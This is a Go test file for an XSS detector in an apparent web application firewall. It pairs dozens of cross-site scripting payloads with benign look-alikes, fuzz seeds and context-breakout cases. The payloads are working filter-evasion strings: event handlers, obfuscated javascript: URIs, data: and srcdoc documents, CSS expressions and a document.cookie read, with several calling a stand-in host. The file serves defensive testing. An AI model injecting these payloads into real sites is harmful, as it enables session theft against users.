package html

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"kongwaf/detect"
	"kongwaf/detect/attack/languagetest"
)

var language = languagetest.Language{Class: detect.ClassXSS, Possible: Possible, Judge: Judge, Rows: rows, Hostile: hostile}

func TestLanguage(t *testing.T)   { language.Test(t) }
func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }

var rows = []languagetest.Row{
	{Shows: "a browser knows no fences", Attack: "some words of text:\n```html\n<img src=x onerror=go(1)>\n```\nthanks", Twin: "some words of text:\n```html\n<img src=x alt=on>\n```\nthanks"},
	{Shows: "a tag of words in a title", Attack: "<script async=1", Twin: "<script is the wrong word here", Suspicious: true},
	{Shows: "an attribute without a value in a title", Attack: "<script setup>go(1)</script>", Twin: "Why <script setup> in Vue & when"},
	{Shows: "links and code in a Markdown table", Attack: "[a](/b onfocus=go(1)) <x onfocus=go(1)>", Twin: "| [`onfocus`](/b) | `(e) => void` | <b> |"},
	{Shows: "a document in a link of Markdown", Attack: "[a](data:text/html;base64,PHNjcmlwdD4=)", Twin: "[a](data:image/png;base64,iVBORw0KGgo=)"},
	{Shows: "a handler behind an empty attribute", Attack: "<img src= onmouseover=\"go(1)\">", Twin: "<img src= alt=\"on\">"},
	{Shows: "a script element runs, a word about one does not", Attack: `<script>steal(1)</script>`, Twin: "the <script> tag and its </script> end are rarely written by hand"},
	{Shows: "a source is enough", Attack: `<script src=//h.example/x></script>`, Twin: `<img src=//h.example/x.png>`},
	{Shows: "a type that no browser runs", Attack: `<script type="module">go()</script>`, Twin: `<script type="application/ld+json">{"@type":"Person"}</script>`},
	{Shows: "the first type counts", Attack: `<script type="module" type="application/json">go()</script>`, Twin: `<script type="text/template">hello there, {{name}} (you)</script>`},
	{Shows: "slashes separate attributes", Attack: `<script/x/src='//h.example'>`, Twin: `<b/>and/or</b>`},
	{Shows: "a prefix does not help", Attack: `<svg:script>steal()</svg:script>`, Twin: `<svg:g><svg:circle r="2"/></svg:g>`},
	{Shows: "a handler on any element", Attack: `<q onpointerrawupdate=go(1)>x`, Twin: `<q cite="https://example.com/">x</q>`},
	{Shows: "a handler on an element nobody knows", Attack: `<my-el onfocus="go()" tabindex=1>`, Twin: `<my-el focus="go" tabindex=1>`},
	{Shows: "white space before the equals sign", Attack: "<img src=x onerror\n\f=\t'go()'>", Twin: `<img src=x alt = 'on error'>`},
	{Shows: "JSX is no HTML", Attack: `<button onclick="go()">x</button>`, Twin: `<Button onClick={() => go()}>x</Button>`},
	{Shows: "braces without an arrow are a block", Attack: `<img src=x onerror={alert(1)}>`, Twin: `<Img onError={handleError} src={url} />`},
	{Shows: "a quote ends the attribute", Attack: `" autofocus onfocus="alert(1)`, Twin: `"focus on this" he said`},
	{Shows: "a quote, no blank", Attack: `'onmouseover='confirm(1)`, Twin: `'on mouse over' is an event`},
	{Shows: "white space ends a bare attribute", Attack: `x onclick=alert(1) y`, Twin: `x on click = nothing`},
	{Shows: "a link to a script", Attack: `<a href="javascript:go(1)">x</a>`, Twin: `<a href="https://example.com/javascript:intro">x</a>`},
	{Shows: "tabs and references in a scheme", Attack: "<a href=\"java\tscr&#105;pt&colon;go(1)\">x</a>", Twin: `<a href="java&#x2d;script.html">x</a>`},
	{Shows: "a form's target", Attack: `<button form=a formaction=javascript:go(1)>`, Twin: `<button form=a formaction=/save>`},
	{Shows: "links that do nothing are common", Attack: `<a href="javascript:void(0);go(1)">x</a>`, Twin: `<a href="javascript:void(0);">x</a>`},
	{Shows: "a bare script address", Attack: `javascript:fetch('//h.example')`, Twin: `javascript: the good parts`},
	{Shows: "what click trackers report", Attack: `javascript:__doPostBack(alert(1))`, Twin: `javascript:__doPostBack('ctl00$grid','Page$2')`},
	{Shows: "a document in an address", Attack: `<iframe src="data:text/html;base64,PHNjcmlwdD4=">`, Twin: `<img src="data:image/png;base64,iVBORw0KGgo=">`},
	{Shows: "a document in a frame", Attack: `<iframe srcdoc="&lt;script>go()&lt;/script>"></iframe>`, Twin: `<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen></iframe>`, Suspicious: true},
	{Shows: "plug-ins run what they load", Attack: `<object data=//h.example/x.swf></object>`, Twin: `<video src="https://example.com/x.mp4" controls></video>`},
	{Shows: "a base moves every link", Attack: `<base href=//h.example/>`, Twin: `<p>All your base are belong to us</p>`},
	{Shows: "a refresh moves the page", Attack: `<meta http-equiv="refresh" content="0;url=//h.example">`, Twin: `<meta name="viewport" content="width=device-width">`},
	{Shows: "SVG animation sets a link", Attack: `<svg><a><animate attributeName=href values=javascript:go(1) /></a></svg>`, Twin: `<svg><animate attributeName="r" values="1;2" dur="1s"/></svg>`},
	{Shows: "an expression in a style", Attack: `<p style="width:ex/**/pression(go())">`, Twin: `<p style="width: 50%; color: #333">An expression (old)</p>`},
	{Shows: "CSS escapes", Attack: `<p style="x:\65 xpression(go())">`, Twin: `<p style="font-family:'Open Sans', Arial">x</p>`},
	{Shows: "an address in a style sheet", Attack: `<style>li{list-style:url("javascript:go()")}</style>`, Twin: `<style>li{list-style:url("https://example.com/dot.png")}</style>`},
	{Shows: "the end of a title", Attack: `</title><svg onload=go()>`, Twin: `The title: "A < B"`},
	{Shows: "the end of a comment", Attack: `--><img src=x onerror=go()>`, Twin: `<!-- an ordinary remark, onerror=nothing here -->`},
	{Shows: "a conditional comment", Attack: `<!--[if IE]><script>go()</script><![endif]-->`, Twin: `<!-- markdownlint-disable MD033 -->`},
	{Shows: "the end of a script", Attack: `';go(1)</script><b x='`, Twin: `a b </p>`},
	{Shows: "an attribute that is parsed again", Attack: `<noscript><p title="</noscript><img src=x onerror=go()>">`, Twin: `<p title="a < b and c > d">`},
	{Shows: "a tag inside a word, for filters that strip tags", Attack: `"auto<x>focus on<x>focus=alert<x>(1) y="`, Twin: `List<String> a, Map<K,V> b = c`},
	{Shows: "split over CDATA", Attack: `<![CDATA[<]]>script<![CDATA[>]]>go()`, Twin: `<![CDATA[a < b]]>`},
	{Shows: "a NUL in a name", Attack: "<scr\x00ipt>go()</script>", Twin: "a\x00b <b>c</b>"},
	{Shows: "plus signs for blanks", Attack: `<img+src=x+onerror=go(1)>`, Twin: `a+b<c+d`},
	{Shows: "never closed", Attack: `<svg/onload=go(1)//`, Twin: `a <b && c`},
	{Shows: "a framework's handler", Attack: `<div ng-focus="$event.view.alert(1)" tabindex=0>`, Twin: `<div ng-repeat="item in items" class="row">`},
	{Shows: "Markdown's links", Attack: `[x](javascript:alert(document.cookie))`, Twin: `[x](https://example.com/javascript)`},
	{Shows: "rich text", Attack: `<p>Hi <a href=" javascript:go(1)">x</a></p>`, Twin: `<p class="MsoNormal">Hi <b>you</b>, <a href="https://example.com/?a=b" target="_blank">x</a><br/><img src="https://example.com/a.png" alt="on=1"></p>`},
	{Shows: "addresses in mail and love", Attack: `<x onclick=go()>`, Twin: `Jo <jo@example.com> <3 you`},
	{Shows: "XML", Attack: `<a xmlns="http://www.w3.org/1999/xhtml" onload="go()"/>`, Twin: `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><on>1</on></soap:Body></soap:Envelope>`},
	{Shows: "XAML names its handlers too", Attack: `<Button onclick="go()">`, Twin: `<asp:Button ID="b" OnClick="Save_Click" runat="server" />`, Suspicious: true},
	{Shows: "query strings", Attack: `x" onload="go()`, Twin: `https://example.com/api.js?render=explicit&onload=ready`},
}

var hostile = []string{
	"<",                    // angle brackets
	"<a ",                  // start tags
	"<a x=y ",              // attributes
	"<a onx= ",             // handlers of nothing
	`<a onload="" `,        // quoted handlers
	`<a x="<a y='`,         // nested quotes
	"<a href=&#",           // references
	"<a href=&#x6a;&#x61;", // reference chain
	`<a style="x:(" `,      // styles
	`<a style="` + strings.Repeat("e(:", 100), // one style
	"<!--x-",               // comments
	"<!--------",           // dashes
	"<script>a b</script>", // script elements
	"<script>a b ",         // script elements, open
	"</script ",            // script ends
	"javascript:",          // script addresses
	" javascript:void(0) ", // script addresses with void
	"onx=",                 // equals signs
	"script:",              // colons
	`" onload=a `,          // attribute quotes
	"<!attlist cdata on ",  // attlist
	"<?import ",            // instructions
	"<a\x00",               // NULs
	`"' onload=a href=x `,  // injected
	"<![CDATA[",            // cdata
	"<  script",            // blanks and script
	"<style>x{y:(}",        // style elements
	"<a <?",                // instructions in a tag
	"<a x=`",               // backticks
	"<a x=`y`z=`",          // closed backticks
	"<a x=y/on=z",          // unquoted with handlers
	`<a x="<b y" `,         // tags in quotes
	"<script<a=b",          // malformed scripts
	"</title>-->",          // raw ends
}

// TestContexts writes one payload into a page at each place that ends differently.
func TestContexts(t *testing.T) {
	const payload = `<img src=x onerror=go(1)>`
	for _, before := range []string{"", `">`, `'>`, ">", "-->", "--!>", "</title>", "</TextArea >", "</style>", "</script>", "</noscript>", `"></option></select>`, "]]>", "x'\"><"} {
		if m := language.Match(before + payload); m.Confidence < 0.9 {
			t.Errorf("%q: %+v", before, m)
		}
	}
}

// TestAgreesWithParser compares the walk with a full HTML5 tokenizer on well-formed input: a
// start tag with a handler is found exactly where the tokenizer sees one.
func TestAgreesWithParser(t *testing.T) {
	tags := []string{"<p>", `<a title="x">`, "<!-- c -->", "<br/>", "text ", `<i data-x='<b>'>`, "</p>", `<img src=x onerror=go(1)>`, `<u title=" onclick=go(1) ">`, "<!doctype html>", "a < b "}
	for n := range len(tags) * len(tags) * len(tags) {
		s := tags[n%len(tags)] + tags[n/len(tags)%len(tags)] + tags[n/len(tags)/len(tags)]
		slow := false
		z := html.NewTokenizer(strings.NewReader(s))
		for kind := z.Next(); kind != html.ErrorToken; kind = z.Next() {
			for _, a := range z.Token().Attr {
				slow = slow || strings.HasPrefix(a.Key, "on")
			}
		}
		p := scanner{src: s}
		p.data(0)
		if fast := p.best.Shape == "event handler"; fast != slow {
			t.Errorf("%q: walk %v, tokenizer %v", s, fast, slow)
		}
	}
}
